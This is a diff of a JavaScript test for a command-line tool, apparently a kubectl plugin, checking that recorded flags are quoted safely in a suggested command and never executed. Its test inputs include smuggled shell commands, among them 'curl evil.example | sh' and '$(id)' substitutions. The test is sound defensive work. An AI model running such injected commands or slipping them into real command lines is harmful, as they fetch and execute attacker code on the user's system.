@@ -193,7 +193,8 @@ describe('flags of a record', () => {
   it('are words of the suggested command, never commands of their own', async () => {
     const { out, err } = await recorded(['--accept=NS-606; curl evil.example | sh #', "--skip=$(id)'`id`"], 'status');
     assert.match(out, /^Next: kubectl netsvc-upgrade run '--skip=\$\(id\)'\\''`id`'$/m);
-    assert.match(err, /^left out, .*: '--accept=NS-606; curl evil\.example \| sh #' \(type what is yours\)$/m);
+    assert.match(out, /^the run also had '--accept=NS-606; curl evil\.example \| sh #'; not in the command, /m);
+    assert.equal(err.includes('evil'), false);
   });
 
   it('are left out where no run could be given them', async () => {
